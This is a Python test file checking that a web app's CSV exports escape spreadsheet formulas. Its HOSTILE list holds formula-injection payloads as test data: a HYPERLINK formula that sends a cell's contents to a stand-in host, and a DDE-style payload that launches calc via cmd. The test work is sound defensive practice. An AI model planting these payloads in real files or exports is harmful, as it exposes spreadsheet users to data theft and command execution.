"""One CSV writer for every export, and it neutralises spreadsheet formulas (finding 9): a
register value or idea title like ``=HYPERLINK(...)`` must never reach a spreadsheet as one."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from sqlalchemy import update
from starlette.routing import Route

from summit.core.csvfile import FORMULA_START, csv_text, safe_cell
from summit.core.models import SummitTable
from tests.support.http import csrf_of, login
from tests.support.ideas import open_recording
from tests.support.lottery_http import (
    PANEL_SEED,
    SEED,
    current_summit_id,
    register_csv,
    register_everyone,
    run_selection,
    upload,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]

#: Every CSV export of the app and the values it is fetched with; a new export route fails
#: the test until it is added here (and so tested).
EXPORTS = {
    "/lottery/extract.csv": "/lottery/extract.csv",
    "/lottery/result.csv": "/lottery/result.csv",
    "/organiser/lottery/mailmerge.csv": "/organiser/lottery/mailmerge.csv",
    "/lottery/{role}/selected.csv": "/lottery/resident/selected.csv",
    "/lottery/{role}/report.csv": "/lottery/resident/report.csv",
    "/organiser/selection/{role}/probabilities.csv": (
        "/organiser/selection/resident/probabilities.csv"
    ),
    "/seating/rounds/{n:int}.csv": "/seating/rounds/1.csv",
    "/moderator/themes/export.csv": "/moderator/themes/export.csv",
    "/forum/reactions.csv": "/forum/reactions.csv",
}


def test_the_writer_neutralises_formulas_and_keeps_numbers() -> None:
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x"
    assert safe_cell("\tTAB") == "'\tTAB" and safe_cell(-3) == -3 and safe_cell(None) == ""
    assert safe_cell("Noord") == "Noord"
    text = csv_text([["-2+3", 1.5, "ok"]], header=["a", "b", "c"], lineterminator="\n")
    assert text == "a,b,c\n'-2+3,1.5,ok\n"


def _hostile_register() -> str:
    lines = register_csv(60).splitlines()
    out = [lines[0]]
    for i, line in enumerate(lines[1:]):
        fields = line.split(";")
        fields[3] = HOSTILE[i % len(HOSTILE)]
        out.append(";".join(fields))
    return "\n".join(out) + "\n"


def _hostile_day(client: Any, info: Any) -> None:
    async def topics() -> None:
        async with client.db.session() as session:
            await session.execute(update(SummitTable).values(topic=HOSTILE[0], area=HOSTILE[3]))

    client.run(topics())
    link, _other = open_recording(client)
    client.get(link)
    token = csrf_of(client.get("/me/ideas").text)
    created = client.post(
        "/api/ideas",
        content=json.dumps({"title": HOSTILE[1], "body": HOSTILE[2]}),
        headers={"x-csrf-token": token, "content-type": "application/json"},
    )
    assert created.status_code in (200, 201), created.text


def _hostile_lottery(client: Any, info: Any) -> None:
    assert login(client, "organiser", info.organiser_password).status_code == 303
    assert upload(client, _hostile_register()).status_code == 303
    token = csrf_of(client.get("/organiser/lottery").text)
    client.post("/organiser/lottery/commit", data={"csrf_token": token, "sample_size": "20"})
    client.post("/organiser/lottery/draw", data={"csrf_token": token, "seed": SEED})
    register_everyone(client, current_summit_id(client))
    run_selection(client, token)
    drawn = client.post(
        "/organiser/selection/draw",
        data={"csrf_token": token, "role": "resident", "seed": PANEL_SEED},
    )
    assert drawn.status_code == 200


def test_every_csv_export_route_neutralises_formulas(demo_client: Any) -> None:
    client, info = demo_client
    routes = {
        r.path for r in client.app.routes if isinstance(r, Route) and ".csv" in r.path
    }
    assert routes == set(EXPORTS), "a CSV export without a test: add it to EXPORTS"
    _hostile_day(client, info)
    _hostile_lottery(client, info)
    seen_hostile = 0
    for path in EXPORTS.values():
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code, response.text[:200])
        assert response.headers["content-type"].startswith("text/csv")
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), (path, cell)
                seen_hostile += cell.startswith("'") and cell[1:] in HOSTILE
    assert seen_hostile >= 4  # the hostile values did reach the exports, neutralised
    # the draw results carry the audit entry of their draw, which checks out on /audit
    for path in ("/lottery/result.csv", "/lottery/resident/selected.csv"):
        entry = client.get(path).headers["x-audit-entry"]
        page = client.get("/audit", params={"head": entry}).text
        assert 'data-head-check="ok"' in page, (path, entry)
